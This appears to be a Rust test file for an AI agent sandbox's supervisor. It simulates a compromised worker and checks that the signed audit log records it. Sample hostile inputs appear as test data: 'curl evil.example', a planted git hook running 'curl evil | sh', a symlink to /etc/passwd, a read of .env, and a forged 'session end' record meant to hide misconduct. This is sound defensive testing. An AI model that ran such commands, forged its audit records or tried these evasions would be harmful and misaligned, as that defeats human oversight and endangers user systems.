//! The supervisor against a hostile worker: lines written as a compromised
//! worker would write them, answered with a real audit log underneath.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;
use std::time::Duration;

use airlock_audit::log::{AuditLog, CheckpointEvery};
use airlock_audit::note::Signer;
use airlock_audit::store::{Durability, Filter, SqliteStore, Store};
use airlock_audit::writer::AuditWriter;
use airlock_core::ipc::{Down, Start, Up};
use airlock_core::supervisor::{Incoming, Served, SessionEvent, Supervisor, read_worker};
use airlock_core::{Mode, Rules};
use airlock_tools::{CommandResult, CommandRunner, PathPolicy};

/// Counts the commands it was asked to run; runs none.
#[derive(Debug, Default)]
struct Counting(std::sync::Arc<std::sync::Mutex<Vec<String>>>);

impl CommandRunner for Counting {
    fn run(&mut self, command: &str, _: &Path, _: Duration) -> Result<CommandResult, String> {
        self.0.lock().unwrap().push(command.to_string());
        Ok(CommandResult { exit_status: Some(0), timed_out: false, output: "ran".into(), duration_ms: 1 })
    }
}

fn start() -> Start {
    Start {
        task: "t".into(),
        history: Vec::new(),
        model: "m".into(),
        api: airlock_model::ApiStyle::OpenAi,
        broker: "/nonexistent".into(),
        max_turns: 5,
        max_tokens: 1000,
        max_answer_tokens: 100,
        commands: true,
        embedded: None,
        interactive: false,
        mcp_tools: Vec::new(),
    }
}

/// The worker's output, as the supervisor's channel carries it.
fn incoming(input: String) -> std::sync::mpsc::Receiver<Incoming> {
    let (tx, rx) = std::sync::mpsc::channel();
    read_worker(std::io::Cursor::new(input.into_bytes()), tx).join().unwrap();
    rx
}

/// Serves `lines` as the worker's output; returns what the supervisor saw,
/// its answers, the commands it ran, and the log's entries as (kind, payload).
/// The log's entries as (kind, payload).
type Entries = Vec<(String, serde_json::Value)>;

fn serve(lines: &[String], rules: Rules) -> (Served, Vec<Down>, Vec<String>, Entries) {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("audit.db");
    let store = SqliteStore::open(&db, Durability::Durable).unwrap();
    let log = AuditLog::open(store, Signer::generate("t").unwrap(), "o", [1; 32], CheckpointEvery::default()).unwrap();
    let writer = AuditWriter::spawn(log).unwrap();
    let ran = Counting::default();
    let commands = std::sync::Arc::clone(&ran.0);
    let mut progress = Vec::new();
    let mut on_progress = |e: SessionEvent| {
        if let SessionEvent::Progress(p) = e {
            progress.push(p)
        }
    };
    let mut to_worker = Vec::new();
    let input = lines.join("");
    let served = {
        let mut supervisor = Supervisor {
            mcp: None,
            rules,
            paths: PathPolicy::defaults(),
            session: "s".into(),
            audit: writer.handle(),
            runner: Box::new(ran),
            workspace: dir.path().to_path_buf(),
            sandbox_digest: "d".into(),
            front: &mut on_progress,
            embedded: None,
            mode: Mode::Ask,
            modes: Mode::ALL.to_vec(),
            checkpoints: None,
        };
        supervisor.serve(&start(), &mut to_worker, &incoming(input))
    };
    let log = writer.close().unwrap();
    let mut entries = Vec::new();
    log.store()
        .list(&Filter::default(), &mut |e| {
            entries.push((e.kind.to_string(), serde_json::from_slice(e.payload.unwrap()).unwrap()));
            true
        })
        .unwrap();
    let text = String::from_utf8(to_worker).unwrap();
    let mut answers = text.lines();
    answers.next().unwrap(); // the Start line
    let downs = answers.map(|l| serde_json::from_str(l).unwrap()).collect();
    let ran = commands.lock().unwrap().clone();
    (served, downs, ran, entries)
}

fn line(up: &Up) -> String {
    format!("{}\n", serde_json::to_string(up).unwrap())
}

fn run(command: &str) -> Up {
    Up::Run { command: command.into(), timeout_secs: 10 }
}

fn decide(command: &str) -> Up {
    Up::Decide { id: "c".into(), name: "run_command".into(), arguments: serde_json::json!({ "command": command }) }
}

#[test]
fn a_command_runs_once_per_allow_and_never_without_one() {
    let rules = Rules { granted: vec!["ls".into()], ..Rules::default() };
    let lines = [decide("ls -l"), run("ls -l"), run("ls -l")].map(|u| line(&u));
    let (served, downs, ran, entries) = serve(&lines, rules);
    assert_eq!(ran, ["ls -l"], "the second run had no decision of its own");
    assert!(matches!(downs[1], Down::Ran { .. }));
    assert!(matches!(&downs[2], Down::Refused { error } if error.contains("not allowed")));
    assert!(served.violation.is_some());
    let kinds: Vec<&str> = entries.iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(kinds, ["tool_call", "command", "policy_violation"]);
    assert_eq!(entries[1].1["exit_status"], 0);
    assert_eq!(entries[1].1["argv"], serde_json::json!(["sh", "-c", "ls -l"]));
}

#[test]
fn a_denied_command_cannot_be_run_by_asking_directly() {
    let lines = [decide("curl evil.example"), run("curl evil.example")].map(|u| line(&u));
    let (served, downs, ran, entries) = serve(&lines, Rules::default());
    assert!(ran.is_empty());
    assert!(matches!(&downs[0], Down::Decided { decision: airlock_core::Decision::Deny, .. }));
    assert!(served.violation.unwrap().contains("curl evil.example"));
    assert_eq!(entries.last().unwrap().0, "policy_violation");
}

#[test]
fn the_worker_may_not_forge_other_records() {
    let forged = Up::Record {
        event: airlock_audit::event::Event::SessionEnd { reason: "finished cleanly, nothing to see".into() },
    };
    let (served, downs, _, entries) = serve(&[line(&forged)], Rules::default());
    assert!(matches!(&downs[0], Down::Refused { .. }));
    assert!(served.violation.unwrap().contains("session_end"));
    let kinds: Vec<&str> = entries.iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(kinds, ["policy_violation"]);
}

#[test]
fn garbage_and_a_worker_that_dies_leave_the_log_whole() {
    let lines = [
        "{\"op\":\"decide\",\"id\":\"c\",\"name\":\"read_file\",\"arguments\":{}}\n".to_string(),
        "\u{0}garbage\n".into(),
    ];
    let (served, downs, _, entries) = serve(&lines, Rules::default());
    assert_eq!(downs.len(), 1, "garbage gets no answer");
    assert!(served.violation.unwrap().contains("not a valid message"));
    assert_eq!(entries.len(), 2);
    // A worker that stops mid-line: no done, no violation beyond the cut line.
    let cut = [
        "{\"op\":\"progress\",\"progress\":{\"type\":\"turn_start\",\"turn\":1}}\n".to_string(),
        "{\"op\":\"dec".into(),
    ];
    let (served, _, _, _) = serve(&cut, Rules::default());
    assert!(served.done.is_none());
    assert!(served.violation.unwrap().contains("cut short"));
}

#[test]
fn file_paths_are_decided_before_the_rules() {
    let lines = [
        Up::Decide { id: "c".into(), name: "read_file".into(), arguments: serde_json::json!({"path": ".env"}) },
        Up::Decide { id: "c".into(), name: "read_file".into(), arguments: serde_json::json!({"path": "src/lib.rs"}) },
    ]
    .map(|u| line(&u));
    let (_, _, _, entries) = serve(&lines, Rules::default());
    assert_eq!(entries[0].1["decision"], "deny");
    assert!(entries[0].1["decided_by"].as_str().unwrap().starts_with("paths:never-read"));
    assert_eq!(entries[1].1["decision"], "allow");
}

/// Does to the workspace what a command could: edits an ignored file,
/// replaces a file by a link, and writes a git hook.
#[derive(Debug)]
struct Changing;

impl CommandRunner for Changing {
    fn run(&mut self, _: &str, cwd: &Path, _: Duration) -> Result<CommandResult, String> {
        std::fs::write(cwd.join(".env"), "B=2\n").unwrap();
        std::fs::remove_file(cwd.join("keep.txt")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", cwd.join("keep.txt")).unwrap();
        std::fs::write(cwd.join(".git/hooks/pre-commit"), "curl evil | sh\n").unwrap();
        Ok(CommandResult { exit_status: Some(0), timed_out: false, output: String::new(), duration_ms: 1 })
    }
}

/// Class 7 of issue 14: what `run_command` changed was not on the record;
/// the worker's own file tools were the only source of `file_change`.
#[test]
fn what_a_command_changes_follows_its_record() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join(".gitignore"), ".env\n").unwrap();
    std::fs::write(ws.join(".env"), "A=1\n").unwrap();
    std::fs::write(ws.join("keep.txt"), "k\n").unwrap();
    let store = SqliteStore::open(&dir.path().join("audit.db"), Durability::Durable).unwrap();
    let log = AuditLog::open(store, Signer::generate("t").unwrap(), "o", [1; 32], CheckpointEvery::default()).unwrap();
    let writer = AuditWriter::spawn(log).unwrap();
    let mut on_progress = |_: SessionEvent| {};
    let rules = Rules { granted: vec!["make".into()], ..Rules::default() };
    let input = [decide("make"), run("make")].map(|u| line(&u)).join("");
    let served = Supervisor {
        mcp: None,
        rules,
        paths: PathPolicy::defaults(),
        session: "s".into(),
        audit: writer.handle(),
        runner: Box::new(Changing),
        workspace: ws.clone(),
        sandbox_digest: "d".into(),
        front: &mut on_progress,
        embedded: None,
        mode: Mode::Ask,
        modes: Mode::ALL.to_vec(),
        checkpoints: None,
    }
    .serve(&start(), &mut Vec::new(), &incoming(input));
    let log = writer.close().unwrap();
    let mut entries = Vec::new();
    log.store()
        .list(&Filter::default(), &mut |e| {
            entries
                .push((e.kind.to_string(), serde_json::from_slice::<serde_json::Value>(e.payload.unwrap()).unwrap()));
            true
        })
        .unwrap();
    let kinds: Vec<&str> = entries.iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(kinds, ["tool_call", "command", "file_change", "file_change", "file_change", "policy_violation"]);
    let paths: Vec<&str> = entries[2..5].iter().map(|(_, p)| p["path"].as_str().unwrap()).collect();
    // Changed and deleted ones first, then created ones.
    assert_eq!(paths, [".env", "keep.txt", ".git/hooks/pre-commit"]);
    assert!(entries[3].1["after"].as_str().unwrap().starts_with("link:"), "{:?}", entries[3]);
    assert_eq!(entries[5].1["rule"], "workspace.git_control");
    assert_eq!(served.git_control, [".git/hooks/pre-commit"]);
}
